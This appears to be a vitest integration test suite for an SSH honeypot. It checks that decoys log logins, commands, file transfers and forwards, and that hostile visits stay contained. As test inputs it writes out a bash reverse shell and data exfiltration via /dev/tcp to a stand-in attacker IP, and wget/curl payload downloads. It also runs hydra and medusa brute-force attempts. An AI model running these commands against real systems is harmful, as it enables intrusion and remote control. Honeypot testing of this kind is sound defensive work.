/** The SSH decoy with the programs that people and attackers use, from Debian's packages. Each is skipped where it is not installed. */
import { createHash, randomBytes } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { getJson, type Json, send } from '../contract/client.ts';
import { freePorts, type Program, removeFolder, startProgram, waitFor } from '../program.ts';
import { forbiddenCalls, playHostile, watchCalls } from './hostile.ts';
import { byPassword, folder, missing, password, quiet, type Ran, run } from './tools.ts';

vi.setConfig({ testTimeout: 120_000 });

let program: Program;
let port = 0;
/** Of all decoys, by name. */
let ports: Record<string, number> = {};

const ssh = (...args: string[]): Promise<Ran> =>
  run('ssh', [...byPassword, '-p', String(port), 'root@127.0.0.1', ...args]);

const eventsOf = async (query: string): Promise<Json[]> => {
  const { events } = await getJson(program, `/api/events?limit=500&${query}`);
  return events;
};
const waitForEvent = (query: string, test: (event: Json) => boolean = () => true): Promise<Json> =>
  waitFor(`an event of ${query}`, async () => (await eventsOf(query)).find(test));

/** One account gets in; the rest by `more`. */
async function setOptions(name: string, more: Json): Promise<void> {
  const options = {
    accept: 'list',
    accounts: [`root:${password}`],
    ...(name !== 'http' && { failureDelayMs: 100 }),
    ...more,
  };
  expect((await send(program, 'PUT', `/api/decoys/${name}`, { options })).status).toBe(200);
}

beforeAll(async () => {
  const names = ['ssh', 'http', 'ftp', 'telnet', 'smtp', 'mysql', 'redis'];
  const free = await freePorts(names.length);
  ports = Object.fromEntries(names.map((name, index) => [name, free[index] ?? 0]));
  port = ports.ssh ?? 0;
  const env = Object.entries(ports).map(([name, own]) => [`PHOSOR_DECOY_${name.toUpperCase()}_PORT`, String(own)]);
  program = await startProgram({ env: { PHOSOR_DECOY_HOST: '127.0.0.1', ...Object.fromEntries(env) } });
  for (const name of ['ssh', 'ftp', 'telnet', 'http']) await setOptions(name, {});
}, 120_000);
afterAll(async () => {
  await program?.stop();
  removeFolder(folder);
}, 60_000);

describe.skipIf(missing('ssh', 'scp', 'sftp'))('OpenSSH', () => {
  test('N-005, N-020: the banner, and a login with its name and address in the store', async () => {
    const status = await getJson(program, '/api/honeypots/status');
    const own = status.find(({ name }: Json) => name === 'SSH');
    expect(Object.keys(own)).toEqual(expect.arrayContaining(['name', 'port', 'status', 'last_seen']));
    expect(own).toMatchObject({ port, status: 'active' });
    expect((await fetch(`${program.address}/api/honeypots/status`)).status).toBe(401);

    const refused = await run('ssh', [...byPassword, '-p', String(port), 'oracle@127.0.0.1', 'id'], '', 'wrong-one');
    expect(refused.status).toBe(255);
    expect(refused.stderr).toContain('Permission denied (publickey,password).');
    const event = await waitForEvent('event_type=decoy.login&user=oracle');
    expect(event).toMatchObject({
      source: 'decoy_ssh',
      source_type: 'decoy',
      src_ip: '127.0.0.1',
      dst_port: port,
      protocol: 'ssh',
      outcome: 'failure',
      fields: { method: 'password', password: 'w*******e', password_length: 9 },
    });
    expect(JSON.stringify(event)).not.toContain('wrong-one');
    const client = await waitForEvent('event_type=decoy.client');
    expect(client.fields.client).toMatch(/^SSH-2\.0-OpenSSH_/);
    expect(client.fields.hassh).toMatch(/^[0-9a-f]{32}$/);
    const { credentials } = await waitFor('the password', async () => {
      const tried = await getJson(program, '/api/decoys/credentials');
      return tried.credentials.length > 0 ? tried : null;
    });
    expect(credentials).toContainEqual(expect.objectContaining({ user: 'oracle', password: 'wrong-one', accepted: 0 }));
  });

  test('a command runs in a shell that is none, and leads to an alert', async () => {
    const ran = await ssh('cat /etc/hostname; echo one two | wc -w; no-such-program; exit 7');
    expect(ran).toMatchObject({ status: 7, stderr: 'bash: line 1: no-such-program: command not found\n' });
    expect(ran.stdout).toMatch(/^[a-z0-9-]+\n2\n$/);
    const event = await waitForEvent('event_type=decoy.command', ({ fields }) => fields.exit_status === 7);
    expect(event).toMatchObject({ user: 'root', severity: 'high' });
    expect(event.fields).toMatchObject({ mode: 'exec', found: false, unknown: ['no-such-program'] });
    await waitFor('the alert', async () => {
      const alerts = await getJson(program, '/api/alerts?limit=50');
      return alerts.some(({ rule_name }: Json) => rule_name === 'Somebody is inside a decoy');
    });
  });

  test('what is to be fetched is written down and not fetched', async (context) => {
    const { status } = await ssh('command -v wget curl');
    if (status !== 0) context.skip('The shell has no wget and curl yet.');
    await ssh('wget http://198.51.100.7/x.sh -O /tmp/x; curl -s http://198.51.100.7/y');
    await waitForEvent('event_type=decoy.download', ({ fields }) => fields.url.includes('198.51.100.7/x.sh'));
    await waitForEvent('event_type=decoy.download', ({ fields }) => fields.url.includes('198.51.100.7/y'));
  });

  test('forwards are written down and refused', async () => {
    const onward = await ssh('-W', '198.51.100.25:25');
    expect(onward.status).not.toBe(0);
    expect(onward.stderr).toContain('forwarding failed');
    const forward = await waitForEvent('event_type=decoy.forward', ({ fields }) => fields.kind === 'direct-tcpip');
    expect(forward.fields).toMatchObject({ dst_host: '198.51.100.25', dst_port: 25 });
    await ssh('-R', '0:127.0.0.1:22', 'true');
    await waitForEvent('event_type=decoy.forward', ({ fields }) => fields.kind === 'tcpip-forward');
  });

  test('a terminal session can be replayed, with its commands as marks', async () => {
    const { status } = await run(
      'ssh',
      ['-tt', ...byPassword, '-p', String(port), 'root@127.0.0.1'],
      'echo a-mark-of-ours\rexit\r',
    );
    expect(status).toBe(0);
    const found = await waitFor('the visit', async () => {
      const { sessions } = await getJson(program, '/api/decoys/sessions?recorded=true');
      return sessions.find(({ ended_at, facts }: Json) => ended_at !== null && facts.term !== undefined);
    });
    const answer = await program.api(`/api/decoys/sessions/${found.id}/recordings/${found.recordings[0]}`);
    const [head, ...lines] = (await answer.text())
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(head).toMatchObject({ version: 2 });
    expect(lines.filter(([, kind]: Json) => kind === 'm').map(([, , text]: Json) => text)).toContain(
      'echo a-mark-of-ours',
    );
    expect(lines.map(([, , text]: Json) => text).join('')).toContain('a-mark-of-ours\r\n');
    const { session } = await getJson(program, `/api/decoys/sessions/${found.id}`);
    expect(session).toMatchObject({ user: 'root', commands: 2, decoy: 'ssh' });
  });

  test.each([
    ['scp', ['scp'], 'sftp'],
    ['scp -O', ['scp', '-O'], 'scp'],
  ])('%s brings files that are kept by their hash, and takes some away', async (_, [command = '', ...flags], via) => {
    const content = randomBytes(200_000);
    writeFileSync(join(folder, 'bring'), content);
    const sent = await run(command, [
      ...flags,
      ...byPassword,
      '-P',
      String(port),
      'bring',
      'root@127.0.0.1:/tmp/brought',
    ]);
    expect(sent).toMatchObject({ status: 0, stderr: '' });
    const sha256 = createHash('sha256').update(content).digest('hex');
    const event = await waitForEvent(`event_type=decoy.upload&q=${sha256}`);
    expect(event.fields).toMatchObject({
      file_name: '/tmp/brought',
      size: 200_000,
      via,
      truncated: false,
      complete: true,
    });
    const kept = await program.api(`/api/decoys/files/${sha256}`);
    expect(kept.headers.get('content-disposition')).toBe(`attachment; filename="${sha256}.bin"`);
    expect(Buffer.from(await kept.arrayBuffer()).equals(content)).toBe(true);
    const taken = await run(command, [
      ...flags,
      ...byPassword,
      '-P',
      String(port),
      'root@127.0.0.1:/etc/passwd',
      'taken',
    ]);
    expect(taken.status).toBe(0);
    expect(readFileSync(join(folder, 'taken'), 'utf8')).toMatch(/^root:x:0:0:root:\/root:\/bin\/bash\n/);
  });

  test('sftp lists, puts, moves and gets', async () => {
    for (const name of ['note', 'longer']) writeFileSync(join(folder, name), `hello${name === 'note' ? '' : ' again'}`);
    const batch = `ls -l /etc/hostname\nput note /root/note\nrename /root/note /root/note2\nget /root/note2 back
reput longer /root/note2\nget /root/note2 resumed\nrm /root/note2\n`;
    const ran = await run('sftp', [...byPassword, '-P', String(port), 'root@127.0.0.1'], batch);
    expect(ran.status).toBe(0);
    expect(ran.stdout).toMatch(/^-rw-r--r-- .* \/etc\/hostname$/m);
    expect(readFileSync(join(folder, 'back'), 'utf8')).toBe('hello');
    expect(readFileSync(join(folder, 'resumed'), 'utf8')).toBe('hello again');
    await waitForEvent('event_type=decoy.command', ({ fields }) => fields.command === 'mv /root/note /root/note2');
  });
});

test.skipIf(missing('hydra'))('hydra finds the one password among 61, and leaves its tries', async () => {
  const words = [...Array.from({ length: 60 }, (_, i) => `guess${i}`), password];
  writeFileSync(join(folder, 'words'), `${words.join('\n')}\n`);
  const args = ['-I', '-t', '16', '-l', 'root', '-P', 'words', '-s', String(port), 'ssh://127.0.0.1'];
  const { stdout } = await run('hydra', args);
  expect(stdout).toMatch(new RegExp(`login: root +password: ${password}`));
  const { credentials } = await waitFor('the tries', async () => {
    const tried = await getJson(program, '/api/decoys/credentials?limit=500');
    const own = tried.credentials.filter((each: Json) => each.password.startsWith('guess'));
    return own.length >= 50 ? tried : null;
  });
  expect(credentials.some((each: Json) => each.password === password && each.accepted > 0)).toBe(true);
});

test.skipIf(missing('medusa'))('medusa finds it, too', async () => {
  writeFileSync(join(folder, 'few'), `no1\nno2\n${password}\n`);
  const args = ['-h', '127.0.0.1', '-n', String(port), '-u', 'root', '-P', 'few', '-M', 'ssh', '-t', '2'];
  const { stdout } = await run('medusa', args);
  expect(stdout).toContain(`User: root Password: ${password} [SUCCESS]`);
});

test.skipIf(missing('nmap'))('nmap takes it for OpenSSH of Debian', async () => {
  const { stdout } = await run('nmap', ['-Pn', '-sV', '-p', String(port), '127.0.0.1']);
  expect(stdout).toMatch(/open +ssh +OpenSSH 9\.2p1 Debian \S+ \(protocol 2\.0\)/);
});

test.skipIf(missing('ssh', 'ssh-keygen'))('a key that is shown is told by its fingerprint, and refused', async () => {
  for (const [type, ...bits] of [['ed25519'], ['rsa', '-b', '2048']] as const) {
    const file = `key-${type}`;
    expect((await run('ssh-keygen', ['-q', '-t', type, ...bits, '-N', '', '-f', file])).status).toBe(0);
    const fingerprint = (await run('ssh-keygen', ['-lf', `${file}.pub`])).stdout.split(' ')[1];
    const only = ['-F', 'none', '-i', file, '-o', 'IdentitiesOnly=yes', '-o', 'PreferredAuthentications=publickey'];
    const refused = await run('ssh', [...quiet, ...only, '-p', String(port), `with-${type}@127.0.0.1`, 'id']);
    expect(refused).toMatchObject({ status: 255, stdout: '' });
    expect(refused.stderr).toContain('Permission denied (publickey,password).');
    const event = await waitForEvent(`event_type=decoy.login&user=with-${type}`);
    expect(event).toMatchObject({ outcome: 'failure', fields: { method: 'publickey', key_fingerprint: fingerprint } });
    expect(event.fields.key_type).toBe(`ssh-${type}`);
    // The key itself is kept: it may be known from elsewhere.
    expect(readFileSync(join(folder, `${file}.pub`), 'utf8')).toContain(event.fields.key);
  }
});

test.skipIf(missing('ssh'))('keyboard-interactive asks like PAM, and what is answered is told', async () => {
  await setOptions('ssh', { methods: ['publickey', 'keyboard-interactive'] });
  const ask = (user: string, tried: string): Promise<Ran> => {
    const only = [
      '-F',
      'none',
      '-o',
      'PreferredAuthentications=keyboard-interactive',
      '-o',
      'NumberOfPasswordPrompts=1',
    ];
    return run('ssh', [...quiet, ...only, '-p', String(port), `${user}@127.0.0.1`, 'id -un'], '', tried);
  };
  const refused = await ask('kbd', 'not-this-one');
  expect(refused.status).toBe(255);
  expect(refused.stderr).toContain('Permission denied (publickey,keyboard-interactive).');
  expect(await waitForEvent('event_type=decoy.login&user=kbd')).toMatchObject({
    outcome: 'failure',
    fields: { method: 'keyboard-interactive', password_length: 12 },
  });
  expect(await ask('root', password)).toMatchObject({ status: 0, stdout: 'root\n' });
  await waitForEvent(
    'event_type=decoy.login&user=root',
    ({ outcome, fields }) => outcome === 'success' && fields.method === 'keyboard-interactive',
  );
  await setOptions('ssh', {});
});

test.skipIf(missing('strace', 'ssh'))(
  'hostile visits to all decoys reach nothing, start nothing and write nothing',
  async (context) => {
    const { process: at } = await getJson(program, '/api/decoys');
    expect(at.isolation).toMatchObject({ permission: true, guarded: true });
    const main = Number(readFileSync(join(program.dataDir, 'phosor.lock'), 'utf8'));
    const watched = [
      await watchCalls(at.pid, join(folder, 'trace')),
      await watchCalls(main, join(folder, 'trace-main')),
    ];
    if (watched.some((each) => each === null)) {
      context.skip('strace may not look at processes here.');
      return;
    }
    const [said] = await Promise.all([
      playHostile(ports, password),
      (async () => {
        await ssh(
          'wget http://127.0.0.1:80/x; curl http://198.51.100.7/; nc 198.51.100.7 4444; ping -c1 198.51.100.7; tftp 198.51.100.7',
        );
        await ssh('echo x > /dev/tcp/198.51.100.7/80; bash -i >& /dev/tcp/198.51.100.7/4444 0>&1');
        await ssh('-W', '127.0.0.1:22');
      })(),
    ]);
    const forwards = await waitFor('the events of all', async () => {
      const all = await eventsOf('event_type=decoy.forward');
      const kinds = new Set(all.map(({ source, fields }) => `${source} ${fields.kind}`));
      const awaited = [
        'decoy_ftp port',
        'decoy_ftp eprt',
        'decoy_smtp relay',
        'decoy_redis replication',
        'decoy_telnet nc',
      ];
      return awaited.every((kind) => kinds.has(kind)) ? kinds : null;
    });
    expect([...forwards]).toContain('decoy_ssh direct-tcpip');
    for (const decoy of Object.keys(said)) expect(said[decoy]?.join('').length, decoy).toBeGreaterThan(0);
    const downloads = new Set((await eventsOf('event_type=decoy.download')).map(({ source }) => source));
    expect([...downloads].sort()).toEqual(['decoy_http', 'decoy_redis', 'decoy_ssh', 'decoy_telnet']);
    for (const mode of ['groovy', 'ping'])
      await waitForEvent(
        'event_type=decoy.command',
        ({ source, fields }) => source === 'decoy_http' && fields.mode === mode,
      );
    const [decoys = '', whole = ''] = await Promise.all(watched.map((each) => each?.()));
    expect(forbiddenCalls(decoys)).toEqual([]);
    expect(forbiddenCalls(whole, { writes: [program.dataDir], listening: true })).toEqual([]);
    // What would have been found is found in the same trace where less is allowed.
    const written = forbiddenCalls(whole, { writes: ['/nowhere'], listening: true });
    expect(written.join('\n')).toContain(join(program.dataDir, 'decoys'));
    expect(forbiddenCalls(whole, { writes: [program.dataDir] }).join('\n')).toMatch(/bind\(.*AF_INET/);
  },
);

test.skipIf(missing('ssh'))(
  "when the decoys' process dies, it is told, comes back, and is the same machine",
  async () => {
    const known = ['-F', 'none', '-o', `UserKnownHostsFile=${join(folder, 'known')}`, '-o', 'LogLevel=ERROR'];
    const strict = (checking: string, command: string): Promise<Ran> =>
      run('ssh', [
        ...known,
        ...['-o', `StrictHostKeyChecking=${checking}`, '-o', 'PreferredAuthentications=password', '-p', String(port)],
        'root@127.0.0.1',
        command,
      ]);
    const look = 'cat /etc/hostname /etc/machine-id; uptime -s; ip -o link; ls -l /home';
    const before = await strict('accept-new', look);
    expect(before.status).toBe(0);
    const { process: old } = await getJson(program, '/api/decoys');
    const cut = ssh('echo still-here; sleep 60');
    await waitForEvent('event_type=decoy.command', ({ fields }) => fields.command.includes('still-here'));
    process.kill(old.pid, 'SIGKILL');
    expect((await cut).status).toBe(255);

    const error = await waitForEvent('event_type=decoy.error');
    expect(error).toMatchObject({ source: 'decoys', fields: { restarts: old.restarts + 1 } });
    expect(error.message).toContain('SIGKILL');
    await waitForEvent('event_type=decoy.session', ({ fields }) => fields.reason === "the decoys' process ended");
    const { process: young } = await waitFor(
      'the next process',
      async () => {
        const { process: now, decoys } = await getJson(program, '/api/decoys');
        return now.running && decoys.every(({ state }: Json) => state === 'on') ? { process: now } : null;
      },
      60_000,
    );
    expect(young.pid).not.toBe(old.pid);
    expect(young).toMatchObject({ restarts: old.restarts + 1, isolation: old.isolation });

    // The host key is the one that the client knows, and so is everything behind it.
    expect(await strict('yes', look)).toEqual(before);
    await waitForEvent('event_type=decoy.command', ({ time, fields }) => fields.command === look && time > error.time);
  },
);
